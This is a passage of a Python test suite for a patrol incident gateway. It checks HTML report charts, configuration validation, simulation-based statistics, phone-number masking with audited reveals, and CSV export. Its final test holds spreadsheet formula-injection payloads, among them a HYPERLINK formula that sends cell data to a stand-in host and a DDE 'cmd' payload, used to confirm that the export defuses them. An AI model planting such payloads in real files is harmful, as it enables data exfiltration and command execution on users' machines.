        self.text = collections.defaultdict(str)   # last open element id path -> text
        self._cur = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.tags[tag] += 1
        if tag == "svg":
            self.svg = a.get("id")
        self.elems.append((tag, a, self.svg))
        if tag not in VOID:
            self.stack.append(tag)
        self._cur = self.elems[-1]

    def handle_startendtag(self, tag, attrs):
        self.tags[tag] += 1
        self.elems.append((tag, dict(attrs), self.svg))

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.errors.append("</%s> closes <%s>" % (tag, self.stack[-1] if self.stack else None))
            return
        self.stack.pop()
        if tag == "svg":
            self.svg = None

    def handle_data(self, data):
        if self._cur is not None:
            tag, a, svg = self._cur
            self.text[id(a)] += data


def test_report_html_is_well_formed_and_charts_carry_the_data(filled, tmp_path):
    fill = filled
    out = tmp_path / "oct.html"
    lo = int(time.time() * 1000)
    ctl(fill, "report", "--month", "2026-10", "--out", str(out))
    now = (lo, int(time.time() * 1000))
    page = out.read_text(encoding="utf-8")

    p = Checker()
    p.feed(page)
    p.close()
    assert not p.errors, p.errors[:5]
    assert not p.stack, "unclosed: %s" % p.stack
    assert page.startswith("<!DOCTYPE html>")
    assert p.tags["html"] == 1 and p.tags["head"] == 1 and p.tags["body"] == 1
    # Self-contained: no scripts, links, images or fetched styles.
    for tag in ("script", "link", "img", "iframe", "object"):
        assert p.tags[tag] == 0, tag
    assert not re.search(r"""(src|href)\s*=|url\(|@import""", page)
    assert set(re.findall(r"https?://[^\s\"']+", page)) <= {"http://www.w3.org/2000/svg"}
    assert "@media print" in page
    assert "October 2026" in page

    oct_reports = [r for r in fill.reports.values() if in_october(r)]
    # Incidents per week by type: one bar segment per (week, code), its value the count.
    want = collections.Counter((week_e(fill, r["epoch"]), r["code"]) for r in oct_reports)
    bars = {(a["data-week"], a["data-code"]): int(a["data-value"])
            for tag, a, svg in p.elems if svg == "chart-incidents" and tag == "rect"}
    assert bars == dict(want)
    totals = {a["data-week"]: int(p.text[id(a)])
              for tag, a, svg in p.elems if svg == "chart-incidents" and tag == "text"
              and "data-week" in a}
    per_week = collections.Counter(week_e(fill, r["epoch"]) for r in oct_reports)
    assert totals == {w: per_week.get(w, 0) for w in
                      ("2026-W40", "2026-W41", "2026-W42", "2026-W43", "2026-W44")}
    # Bar heights are proportional to the counts.
    heights = {(a["data-week"], a["data-code"]): float(a["height"])
               for tag, a, svg in p.elems if svg == "chart-incidents" and tag == "rect"}
    k = next(iter(heights))
    for key, h in heights.items():
        assert h == pytest.approx(heights[k] * bars[key] / bars[k], rel=0.02, abs=0.15)

    # Hotspots by zone.
    zones = collections.Counter(r["zone"] or "-" for r in oct_reports)
    rows = [a["data-zone"] for tag, a, svg in p.elems if tag == "tr" and "data-zone" in a]
    assert sorted(rows) == sorted(zones)
    assert re.search(r'<tr data-zone="HB01"><td>HB01</td><td>Town centre[^<]*</td>'
                     r'<td class="n">%d</td>' % zones["HB01"], page)
    assert re.search(r'id="total-reports">%d<' % len(oct_reports), page)

    # Patrol hours against the commitment.
    hrs = hours_expectations(fill, set(OCTOBER), now)
    days = {"2026-W40": 4, "2026-W41": 7, "2026-W42": 7, "2026-W43": 7, "2026-W44": 6}
    hbars = {a["data-week"]: a for tag, a, svg in p.elems if svg == "chart-hours" and tag == "rect"}
    assert set(hbars) == set(days)
    for w, a in hbars.items():
        lo_ = sum(v[0] for k, v in hrs.items() if k[0] == w)
        hi_ = sum(v[1] for k, v in hrs.items() if k[0] == w)
        assert lo_ - 0.006 <= float(a["data-hours"]) <= hi_ + 0.006
        assert float(a["data-commitment"]) == pytest.approx(WEEKLY_HOURS * days[w] / 7, abs=0.006)

    # Acknowledgement times.
    acks = ack_expectations(fill, in_october)
    med = {a["data-partner"]: float(a["data-median-s"]) for tag, a, svg in p.elems
           if svg == "chart-acks" and tag == "rect" and "data-median-s" in a}
    assert set(med) == {pp for pp, v in acks.items() if v[1]}
    for pp, v in med.items():
        m = acks[pp][2]
        assert m[0] - 0.1 <= v <= m[1] + 0.1

    assert ctl(fill, "report", check=False).returncode == 2
    assert ctl(fill, "report", "--month", "2026-13", check=False).returncode == 2


def test_report_of_an_empty_month(filled, tmp_path):
    fill = filled
    page = ctl(fill, "report", "--month", "2025-02").stdout
    p = Checker()
    p.feed(page)
    p.close()
    assert not p.errors and not p.stack
    assert "No reports in this month." in page
    assert "No alert was acknowledged in this month." in page
    hbars = [a for tag, a, svg in p.elems if svg == "chart-hours" and tag == "rect"]
    # February 2025: 1-2 (W05), three full weeks, 24-28 (W09).
    assert [a["data-week"] for a in hbars] == ["2025-W05", "2025-W06", "2025-W07", "2025-W08",
                                               "2025-W09"]
    assert [float(a["data-hours"]) for a in hbars] == [0.0] * 5
    assert [float(a["data-commitment"]) for a in hbars] == pytest.approx(
        [WEEKLY_HOURS * 2 / 7] + [WEEKLY_HOURS] * 3 + [WEEKLY_HOURS * 5 / 7], abs=0.006)


def test_weekly_hours_is_checked(filled, tmp_path):
    fill = filled
    text = fill.gw.conf.read_text()
    for bad in ("-1", "lots", "10001"):
        conf = tmp_path / "bad.conf"
        conf.write_text(text.replace("weekly_hours = %d" % WEEKLY_HOURS, "weekly_hours = " + bad))
        cp = gwtest.patrolctl("--config", conf, "stats", check=False)
        assert cp.returncode == 1 and "weekly_hours" in cp.stderr, (bad, cp.stderr)
    # patrolgw accepts the section (the same file configures both).
    conf = tmp_path / "ok.conf"
    conf.write_text(text)
    cp = gwtest.run([gwtest.PATROLGW, "--check-config", conf])
    assert cp.returncode == 0, cp.stdout + cp.stderr


# =========================================================================== patrolsim fill
#
# Issue 5 asks for the commands to be checked against a store filled by a seeded
# patrolsim run through a real gateway. patrolsim runs on the real clock (it cannot
# place reports in chosen weeks, which the epoch fill above needs for the week,
# ACK-time and patrol-hour figures), so this second fill checks what does not depend
# on when: every report with its code, priority, channel and reporter, the filters,
# the counts by priority, channel and code, the refused messages by field, the
# acknowledgements per partner, the export, show, and the SMS queue. patrolsim plays
# radio operatives over MQTT and SMS operatives through libgammu's dummy modem, and
# the police duty phone acknowledging SMS alerts. The expected figures are computed
# here from patrolsim's own transcript (what it sent and every reply and alert it
# got), independently of the store.

SIM_RADIO_REPLY = re.compile(r"^< (simop\d+|simpc\d+) \[\S+\] (.*?)( \(missed by the bridge\))?$")
SIM_SMS_REPLY = re.compile(r"^< sms (simsms\d+|duty\d+) ((?:OK|ERR) .*)$")
SIM_ALERT = re.compile(r"^! alert (\S+) R(\d+) ")
SIM_SMS_ALERT = re.compile(r"^! sms alert (\S+) to duty\d+: P[1-4] \S+ \S+ R(\d+) ")


class SimFill:
    def __init__(self):
        self.reports = {}                       # ref -> {code, priority, channel, reporter}
        self.errors = collections.Counter()     # ERR field -> count (first answers only)
        self.acked = collections.defaultdict(set)    # partner -> refs acknowledged
        self.alerted = collections.defaultdict(set)  # partner -> refs alerted
        self.summary = None
        self.gw = None


def parse_transcript(lines, partners):
    """What patrolsim printed -> SimFill. partners: simpcN -> partner name."""
    fill = SimFill()
    for line in lines:
        m = SIM_RADIO_REPLY.match(line)
        who, reply, channel = None, None, None
        if m:
            who, reply, channel = m.group(1), m.group(2), "radio"
        m = SIM_SMS_REPLY.match(line)
        if m:
            who, reply, channel = m.group(1), m.group(2), "sms"
        if reply is not None and not reply.endswith(" DUP"):
            rm = OK_REPORT.match(reply)
            if rm:
                assert int(rm.group(1)) not in fill.reports, line
                fill.reports[int(rm.group(1))] = {
                    "code": rm.group(2), "priority": int(rm.group(3)), "channel": channel,
                    "reporter": who.upper()}
            elif reply.startswith("ERR "):
                fill.errors[reply[4:].split(":", 1)[0]] += 1
            elif reply.startswith("OK ACK R"):
                partner = "police" if who.startswith("duty") else partners[who]
                fill.acked[partner].add(int(reply.split()[2][1:]))
        m = SIM_ALERT.match(line) or SIM_SMS_ALERT.match(line)
        if m:
            fill.alerted[m.group(1)].add(int(m.group(2)))
    return fill


@pytest.fixture(scope="module")
def simfilled(tmp_path_factory, binaries):
    from smstest import Modem, sms_section
    patrolsim = gwtest.BUILD / "patrolsim"
    if not os.access(patrolsim, os.X_OK):
        pytest.fail("%s is missing" % patrolsim, pytrace=False)
    env = gwtest.Env(tmp_path_factory.mktemp("ctlsim"))
    try:
        b = env.broker()
        modem = Modem(env.tmp / "modem")
        g = env.gateway(b, log_level="debug", extra=sms_section(modem.dir) +
                        "[partner.police]\nsms = 07700900999\n")
        g.wait_log(r"modem: connected")
        cp = gwtest.run([patrolsim, "--config", g.conf, "--register", "--json", "--seed", "21",
                         "--count", "160", "--rate", "60", "--operatives", "3", "--bridges", "2",
                         "--sms-operatives", "3", "--grace", str(t(15))], timeout=t(180))
        assert cp.returncode == 0, cp.stderr
        lines = cp.stdout.strip().splitlines()
        # patrolsim's contacts: one per partner with MQTT alerts, in the config's order.
        partners = {"simpc%d" % (i + 1): p for i, p in enumerate(gwtest.DEFAULT_PARTNERS)}
        fill = parse_transcript(lines[:-1], partners)
        fill.summary = json.loads(lines[-1])
        fill.gw = g
        assert g.stop() == 0
    except BaseException:
        env.close()
        raise
    yield fill
    env.close()


def test_sim_fill_is_a_realistic_mix(simfilled):
    f = simfilled
    s = f.summary
    assert s["missing_replies"] == 0 and s["sms_failed"] == 0 and s["sms_dropped"] == 0
    chans = collections.Counter(r["channel"] for r in f.reports.values())
    assert chans["radio"] > 10 and chans["sms"] > 10
    assert len(f.reports) == s["reports"]
    assert {"CODE", "LOCATION"} <= set(f.errors)
    assert s["sms_alerts"] > 0 and f.acked["police"]
    # Each partner's first ACK of a report was announced to its reporter.
    assert s["notices"] == s["notices_due"] > 0 and s["sms_notices"] > 0


def test_sim_reports_json_matches_the_transcript(simfilled):
    f = simfilled
    rows = ctl_json(f, "reports", "--json")
    assert refs_of(rows) == sorted(f.reports)
    for row in rows:
        exp = f.reports[int(row["ref"][1:])]
        assert (row["code"], row["priority"], row["channel"], row["reporter"]) == (
            exp["code"], exp["priority"], exp["channel"], exp["reporter"]), row


@pytest.mark.parametrize("args,pred", [
    (["--code", "RTC"], lambda r: r["code"] == "RTC"),
    (["--priority", "1"], lambda r: r["priority"] == 1),
    (["--reporter", "SIMSMS1"], lambda r: r["reporter"] == "SIMSMS1"),
    (["--reporter", "SIMOP2"], lambda r: r["reporter"] == "SIMOP2"),
])
def test_sim_reports_filters(simfilled, args, pred):
    f = simfilled
    want = sorted(ref for ref, r in f.reports.items() if pred(r))
    assert refs_of(ctl_json(f, "reports", *args, "--json")) == want
    rows = list(csv.DictReader(io.StringIO(ctl(f, "export", "--format", "csv", *args).stdout)))
    assert sorted(int(r["ref"][1:]) for r in rows) == want


def test_sim_stats_match_the_transcript(simfilled):
    f = simfilled
    st = ctl_json(f, "stats", "--json")
    reps = f.reports.values()
    assert st["reports"] == len(f.reports)
    assert st["by_priority"] == {"P%d" % p: sum(1 for r in reps if r["priority"] == p)
                                 for p in range(1, 5)}
    assert st["by_channel"] == dict(collections.Counter(r["channel"] for r in reps))
    by_code = collections.Counter()
    for row in st["incidents"]:
        by_code[row["code"]] += row["count"]
    assert by_code == collections.Counter(r["code"] for r in reps)
    errors = collections.Counter()
    for r in st["messages"]:
        if r["outcome"] == "error":
            errors[r["reason"]] += r["count"]
    assert errors == f.errors
    acks = {a["partner"]: a for a in st["acks"]}
    for partner, refs in f.acked.items():
        assert acks[partner]["acked"] == len(refs), partner
    for partner, refs in f.alerted.items():
        assert acks[partner]["alerted"] == len(refs), partner


def test_sim_show_and_the_sms_queue(simfilled):
    f = simfilled
    ref = min(r for r, x in f.reports.items() if x["channel"] == "sms")
    shown = ctl_json(f, "show", "R%d" % ref, "--json")
    assert shown["report"]["channel"] == "sms"
    assert shown["report"]["reporter"] == f.reports[ref]["reporter"]
    assert [m["channel"] for m in shown["messages"]][:1] == ["sms"]
    # SMS senders' numbers are masked as patrolctl sms masks them, unless --reveal
    # (audited first); radio senders are not phone numbers and stay as they are.
    sms_msgs = [m for m in shown["messages"] if m["channel"] == "sms"]
    assert sms_msgs and all(m["sender_masked"] and re.fullmatch(r"\+44770\*{5}\d\d", m["sender"])
                            for m in sms_msgs)
    table = ctl(f, "show", "R%d" % ref).stdout
    assert "+44770*****" in table and not re.search(r"\+4477009\d{5}", table), table
    db = f.gw.db()
    assert db.scalar("SELECT count(*) FROM audit WHERE action = 'show reveal'") == 0
    revealed = ctl_json(f, "show", "R%d" % ref, "--json", "--reveal", "--actor", "dpo-check")
    shown_sms = [m for m in revealed["messages"] if m["channel"] == "sms"]
    assert len(shown_sms) == len(sms_msgs)
    assert all(m["sender_masked"] is False and re.fullmatch(r"\+4477009\d{5}", m["sender"])
               for m in shown_sms)
    audit = db.one("SELECT * FROM audit WHERE action = 'show reveal'")
    assert (audit["actor"], audit["object"]) == ("dpo-check", "R%d" % ref)
    assert "+44" not in audit["detail"]
    assert re.search(r"\+4477009\d{5}", ctl(f, "show", "R%d" % ref, "--reveal").stdout)
    assert db.scalar("SELECT count(*) FROM audit WHERE action = 'show reveal'") == 2
    assert ctl(f, "audit", "--verify").returncode == 0
    assert ctl(f, "show", "R%d" % ref, "--actor", "x", check=False).returncode == 2
    queue = ctl_json(f, "sms", "--all", "--json")
    s = f.summary
    # Every SMS the gateway queued, as patrolsim read it: replies, the reporters'
    # ACK notices (replies that answer no message), the duty phone's first alerts,
    # updates and resends, and the alerts an ACK made unnecessary.
    assert len(queue) == (s["sms_replies"] + s["sms_notices"] + s["sms_alerts"] +
                          s["sms_updates"] + s["sms_resends"] + s["sms_cancelled"])
    by = collections.Counter((q["kind"], q["alert_kind"], q["state"]) for q in queue)
    assert by[("reply", None, "sent")] == s["sms_replies"] + s["sms_notices"]
    assert sum(1 for q in queue if q["kind"] == "reply" and q["message_id"] is None) == \
        s["sms_notices"] > 0
    assert by[("alert", "alert", "sent")] == s["sms_alerts"]
    assert by[("alert", "update", "sent")] == s["sms_updates"]
    assert all(q["to_masked"] and "*" in q["to"] for q in queue)
    # Not sent: only what an ACK cancelled (normal), never a failure or a reply dropped.
    unsent = ctl_json(f, "sms", "--json")
    assert len(unsent) == s["sms_cancelled"]
    assert all((q["kind"], q["state"], q["last_error"]) == ("alert", "dropped", "acknowledged")
               for q in unsent)


# ------------------------------------------------------- CSV formula injection

def test_csv_cells_that_a_spreadsheet_would_run_are_defused(env):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is quoted and
    prefixed with a single quote; numbers in numeric columns are left as they are."""
    b, g, c = env.standard()
    g.wait_log(r"subscribed to")
    nasty = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1,2)"]
    refs = {}
    for i, d in enumerate(nasty):
        unit = "csv%d" % i
        c.publish(gwtest.in_topic("shopwatch", unit), "ASB HB12 " + d, qos=1)
        m = c.inbox.take_topic(gwtest.out_topic("shopwatch", unit), t(10))
        ref = OK_REPORT.match(m.text)
        assert ref, m.text
        refs["R" + ref.group(1)] = d
    for args in (("export", "--format", "csv"), ("reports", "--csv")):
        text = g.ctl(*args).stdout
        rows = list(csv.DictReader(io.StringIO(text)))
        assert sorted(r["ref"] for r in rows) == sorted(refs)
        for r in rows:
            assert r["details"] == "'" + refs[r["ref"]], r
            assert r["code"] == "ASB" and r["zone"] == "HB12" and r["priority"].isdigit()
            float(r["lat"]), float(r["lon"])
        for d in nasty:
            # Quoted, so a spreadsheet that strips the quote still sees text.
            assert '"\'' + d.replace('"', '""') + '"' in text
